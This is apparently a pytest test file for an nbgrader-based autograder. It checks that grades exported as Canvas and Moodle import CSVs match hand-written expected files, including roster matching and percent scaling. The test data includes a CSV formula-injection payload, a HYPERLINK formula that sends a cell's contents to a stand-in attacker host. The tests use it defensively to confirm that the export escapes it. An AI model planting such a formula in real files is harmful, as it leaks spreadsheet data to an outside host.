"""Grades as Canvas's and Moodle's grade import CSV (autograder/lms.py), against the
layouts the LMSs document: Canvas's gradebook import (Student, ID, SIS User ID, SIS Login
ID, Section, one column per assignment, an optional "Points Possible" row), Moodle's
CSV grade import (the columns of its grade export; an identifier column mapped to its
users). Each file is written by stock `nbgrader export --exporter=...` in the course
root and by `autograder export`, and both must be the hand-written expected text."""
from __future__ import annotations

import os
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

from ..conftest import autograder, copy_course

EVIL_FIRST = '=HYPERLINK("http://evil.example/?"&A1,"open")'

#: id, first name, last name, email: commas, quotes, a newline, formulas, Chinese.
STUDENTS = [
    ("alice", "Alice", "Liddell", "alice@example.edu"),
    ("bob", 'Robert "Bobby"', "Tables, Jr.", "BOB@Example.edu"),
    ("dave", "Dave", "Null", None),
    ("mallory", EVIL_FIRST, "-Evil\nRow", "+1@evil.example"),
    ("zhang", "伟", "张", "zhang@example.edu"),
]

#: Two quizzes (points of each grade cell) beside the course's chapters, so that every
#: score below is computed by hand: alice 4+3.5 = 7.5 of 10 (75 %) and 8-1 (late) = 7 of
#: 8 (87.5 %), bob 10 of 10, mallory 2 of 10 (20 %), zhang 4 of 8 (50 %, still to grade by
#: hand); dave and carol submitted nothing.
QUIZZES = {"quiz_a": {"a1": 4.0, "a2": 6.0}, "quiz_b": {"b1": 8.0}}
GRADES = [("quiz_a", "alice", {"a1": 4, "a2": 3.5}, 0.0), ("quiz_b", "alice", {"b1": 8}, 1.0),
          ("quiz_a", "bob", {"a1": 4, "a2": 6}, 0.0), ("quiz_a", "mallory", {"a1": 2, "a2": 0}, 0.0),
          ("quiz_b", "zhang", {"b1": 4}, 0.0)]

#: As Canvas exports its gradebook (the layout its import reads), with a grade that the
#: export replaces, Canvas's read-only columns, its test student, and a hostile name.
CANVAS_ROSTER = """\
Student,ID,SIS User ID,SIS Login ID,Section,quiz_a (1001),Current Score,Final Score
    Points Possible,,,,,10.00,(read only),(read only)
"Liddell, Alice",501,S0001,alice,Section 1,,,
"Tables, Jr., Robert",502,S0002,bob,Section 1,9.00,90,90
"张, 伟",503,S0003,ZHANG,Section 2,,,
"=HYPERLINK(""http://evil.example""), Eve",504,S0004,eve,Section 2,,,
"Student, Test",505,,,Section 1,,,
"""

#: As Moodle exports grades as a CSV file: its user fields, grade items, export time.
MOODLE_ROSTER = """\
"First name","Last name","ID number","Institution","Department","Email address",\
"Assignment: quiz_a (Real)","Last downloaded from this course"
Alice,Liddell,S0001,"Example University",Mathematics,alice@example.edu,-,1718000000
Robert,Tables,S0002,"Example University",Mathematics,bob@example.edu,-,1718000000
Carol,Jones,S0005,"Example University",Physics,carol@example.edu,-,1718000000
"""

BOM = "\ufeff"


def expected(text: str) -> str:
    """The expected file: a byte-order mark, the csv module's CRLF line ends."""
    return BOM + text.replace("\n", "\r\n")


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    from nbgrader.api import Gradebook
    from sqlalchemy.exc import SAWarning

    from autograder.batch.gradebook import course_db_url, course_id

    root = copy_course(tmp_path_factory.mktemp("lms"), built=True)
    with Gradebook(course_db_url(root), course_id(root)) as gb, warnings.catch_warnings():
        warnings.simplefilter("ignore", SAWarning)   # nbgrader's add_submission, harmless
        for quiz, cells in QUIZZES.items():
            gb.add_assignment(quiz)
            gb.add_notebook("quiz", quiz)
            for name, points in cells.items():
                gb.add_grade_cell(name, "quiz", quiz, max_score=points, cell_type="code")
        for student, first, last, email in STUDENTS:
            gb.add_student(student, first_name=first, last_name=last, email=email)
        for quiz, student, scores, penalty in GRADES:
            gb.add_submission(quiz, student)
            for name, points in scores.items():
                grade = gb.find_grade(name, "quiz", quiz, student)
                grade.auto_score, grade.needs_manual_grade = points, student == "zhang"
            gb.find_submission_notebook("quiz", quiz, student).late_submission_penalty = penalty
            gb.db.commit()
    (root / "canvas_roster.csv").write_text(CANVAS_ROSTER, encoding="utf-8")
    (root / "moodle_roster.csv").write_text(MOODLE_ROSTER, encoding="utf-8")
    return root


def nbgrader_export(root: Path, exporter: str, *options: str) -> subprocess.CompletedProcess:
    """Stock `nbgrader export` in the course root, as an instructor runs it."""
    scripts = Path(sys.executable).parent
    env = {**os.environ, "PATH": f"{scripts}{os.pathsep}{os.environ.get('PATH', '')}"}
    result = subprocess.run([str(scripts / "nbgrader"), "export", f"--exporter=autograder.lms.{exporter}",
                             *options], cwd=root, env=env, text=True, capture_output=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    return result


def read(path: Path) -> str:
    return path.read_bytes().decode("utf-8")


def test_canvas_with_roster_fills_canvas_ids_and_reports_who_it_lacks(course):
    want = expected('''\
Student,ID,SIS User ID,SIS Login ID,Section,quiz_a (1001),quiz_b
Points Possible,,,,,10,8
"Liddell, Alice",501,S0001,alice,Section 1,7.5,7
"Tables, Jr., Robert",502,S0002,bob,Section 1,10,
"张, 伟",503,S0003,ZHANG,Section 2,,4
"'=HYPERLINK(""http://evil.example""), Eve",504,S0004,eve,Section 2,,
"Student, Test",505,,,Section 1,,
''')
    lacking = expected('''\
student_id,first_name,last_name,email,quiz_a (1001),quiz_b
mallory,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'-Evil Row,'+1@evil.example,2,
''')
    ours = autograder(course, "export", "quiz_a", "quiz_b", "--to", "canvas",
                      "--roster", str(course / "canvas_roster.csv"), "--output", str(course / "a.csv"))
    stock = nbgrader_export(course, "CanvasExport", "--assignment=['quiz_a','quiz_b']",
                            "--CanvasExport.roster=canvas_roster.csv", "--to=b.csv")
    for run, name in ((ours, "a"), (stock, "b")):
        assert read(course / f"{name}.csv") == want
        assert read(course / f"{name}.not-in-roster.csv") == lacking
        # Printed as autograder.text.shown makes it: the newline of the name escaped.
        assert "1 student with a grade not in the roster" in run.stdout
        assert "mallory (" in run.stdout and "-Evil\\x0aRow" in run.stdout
        assert "quiz_a (1001): 3 students without a submission, left empty" in run.stdout
        assert "1 submission still to grade by hand" in run.stdout


def test_moodle_with_roster_by_email_in_percent(course):
    want = expected('''\
First name,Last name,ID number,Email address,quiz_a,quiz_b
Alice,Liddell,S0001,alice@example.edu,75,87.5
Robert,Tables,S0002,bob@example.edu,100,0
Carol,Jones,S0005,carol@example.edu,0,0
''')
    ours = autograder(course, "export", "quiz_a", "quiz_b", "--to", "moodle", "--roster",
                      str(course / "moodle_roster.csv"), "--id-column", "Email address", "--match",
                      "email", "--percent", "--no-submission", "0", "--output", str(course / "m1.csv"))
    stock = nbgrader_export(course, "MoodleExport", "--assignment=['quiz_a','quiz_b']",
                            "--MoodleExport.roster=moodle_roster.csv", "--MoodleExport.id_column=Email address",
                            "--MoodleExport.student_key=email", "--MoodleExport.scale=percent",
                            "--MoodleExport.no_submission=0", "--to=m2.csv")
    for run, name in ((ours, "m1"), (stock, "m2")):
        assert read(course / f"{name}.csv") == want
        lacking = read(course / f"{name}.not-in-roster.csv").splitlines()
        assert [line.split(",")[0] for line in lacking] == [BOM + "student_id", "mallory", "zhang"]
        assert lacking[2] == "zhang,伟,张,zhang@example.edu,0,50"
        assert "2 students with a grade not in the roster" in run.stdout
        assert "quiz_b: 2 students without a submission, given 0" in run.stdout


def test_moodle_without_roster_has_every_gradebook_student(course):
    want = expected('''\
First name,Last name,Email address,Username,quiz_a,quiz_b
Alice,Liddell,alice@example.edu,alice,7.5,7
"Robert ""Bobby""","Tables, Jr.",BOB@Example.edu,bob,10,
Dave,Null,,dave,,
"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'-Evil Row,'+1@evil.example,mallory,2,
伟,张,zhang@example.edu,zhang,,4
''')
    autograder(course, "export", "quiz_a", "quiz_b", "--to", "moodle", "--output", str(course / "n1.csv"))
    # No --assignment: the chapters with a submission, not every chapter of the gradebook.
    nbgrader_export(course, "MoodleExport", "--to=n2.csv")
    for name in ("n1", "n2"):
        assert read(course / f"{name}.csv") == want
        assert not (course / f"{name}.not-in-roster.csv").exists()


def test_canvas_without_roster_in_percent_with_named_columns(course):
    want = expected('''\
Student,ID,SIS User ID,SIS Login ID,Section,quiz_a,Quiz B
Points Possible,,,,,100,100
"Liddell, Alice",,,alice,,75,87.5
"Tables, Jr., Robert ""Bobby""",,,bob,,100,
"Null, Dave",,,dave,,,
"'-Evil Row, =HYPERLINK(""http://evil.example/?""&A1,""open"")",,,mallory,,20,
"张, 伟",,,zhang,,,50
''')
    run = autograder(course, "export", "quiz_a", "quiz_b", "--to", "canvas", "--percent",
                     "--column", "quiz_b=Quiz B", "--output", str(course / "p.csv"))
    assert read(course / "p.csv") == want
    assert "Quiz B: 3 students without a submission" in run.stdout


def test_settings_in_nbgrader_config_reach_both_commands(course):
    config = course / "nbgrader_config.py"
    original = config.read_text(encoding="utf-8")
    config.write_text(original + '\nc.CanvasExport.assignment_column = "HW {chapter}"\n'
                      'c.CanvasExport.assignment_columns = {"quiz_b": "Quiz B"}\n'
                      'c.LmsExport.scale = "percent"\nc.CanvasExport.points_possible = False\n'
                      'c.LmsExport.bom = False\n', encoding="utf-8")
    try:
        autograder(course, "export", "quiz_a", "quiz_b", "--to", "canvas", "--output", str(course / "c1.csv"))
        nbgrader_export(course, "CanvasExport", "--to=c2.csv")
    finally:
        config.write_text(original, encoding="utf-8")
    for name in ("c1", "c2"):
        lines = read(course / f"{name}.csv").splitlines()
        assert lines[:2] == ["Student,ID,SIS User ID,SIS Login ID,Section,HW quiz_a,Quiz B",
                             '"Liddell, Alice",,,alice,,75,87.5']


@pytest.mark.parametrize("lms, roster, options, words", [
    ("moodle", "moodle_roster.csv", [],
     ["has no column 'Username'", "'First name'", "'Email address'", "--id-column"]),
    ("canvas", "roster.xlsx", [], ["is not a CSV file"]),
    ("canvas", "missing.csv", [], ["cannot read the roster"]),
    ("canvas", "canvas_roster.csv", ["--id-column", "Email"], ["not by 'Email'"]),
])
def test_bad_roster_is_said_for_people(course, lms, roster, options, words):
    # The first bytes of a spreadsheet saved as .xlsx (a zip), not as CSV.
    (course / "roster.xlsx").write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xb5U0#\xf4")
    run = autograder(course, "export", "quiz_a", "--to", lms, "--roster", str(course / roster),
                     *options, "--output", str(course / "bad.csv"), check=False)
    assert run.returncode == 2, run.stdout + run.stderr
    for word in words:
        assert word in run.stderr
    assert "Traceback" not in run.stderr


def test_unknown_chapter_is_said_for_people(course):
    run = autograder(course, "export", "quiz_c", "--to", "canvas", check=False)
    assert run.returncode == 2
    assert "no chapter quiz_c in the gradebook" in run.stderr and "quiz_a" in run.stderr


def test_ids_that_differ_only_in_case_are_refused_not_matched_to_one_row(course, tmp_path):
    """A student whose id is another's but for case ("Alice" beside "alice") would match
    that student's roster row: the export stops and names both."""
    import shutil

    from nbgrader.api import Gradebook

    from autograder.batch.gradebook import course_db_url, course_id

    copy = tmp_path / "course"
    shutil.copytree(course, copy)
    config = copy / "nbgrader_config.py"
    config.write_text(config.read_text(encoding="utf-8").replace(str(course), str(copy)), encoding="utf-8")
    with Gradebook(course_db_url(copy), course_id(copy)) as gb, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        gb.add_student("Alice ")
        gb.add_submission("quiz_a", "Alice ")
        gb.db.commit()
    run = autograder(copy, "export", "quiz_a", "--to", "canvas", "--roster", str(copy / "canvas_roster.csv"),
                     "--output", str(copy / "x.csv"), check=False)
    assert run.returncode == 2, run.stdout + run.stderr
    assert "differ only in case or spaces" in run.stderr and "alice" in run.stderr and "Alice " in run.stderr
    assert not (copy / "x.csv").exists()
